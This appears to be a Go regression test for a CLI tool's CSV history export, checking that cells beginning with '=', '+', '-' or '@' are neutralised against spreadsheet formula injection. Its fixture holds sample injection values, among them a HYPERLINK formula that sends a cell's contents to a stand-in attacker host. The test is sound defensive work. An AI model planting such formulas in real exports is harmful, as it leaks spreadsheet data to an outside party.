package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/facegate/facegate/faceauth"
)

// `facegate history --format csv` writes the API's
// text (reject comments, submission ids, submit types) as is, so a cell
// that starts with '=', '+', '-' or '@' is a formula to the spreadsheet the
// operator opens it in. The site's muster.csv already neutralises such
// cells (internal/csvcell); until 2026-12-07 the history export did not.
func TestHistoryCSVNeutralisesFormulas(t *testing.T) {
	recs := []faceauth.Record{{
		AuthID: "a1", Status: "rejected", KYCSubmissionID: "-2+3",
		SubmitType: "@SUM(1+1)", Comments: []string{`=HYPERLINK("http://attacker.example/?d="&A1,"details")`},
	}}
	var b bytes.Buffer
	writeHistoryCSV(&b, recs)
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("history CSV cell %q starts a spreadsheet formula", cell)
		}
	}
}
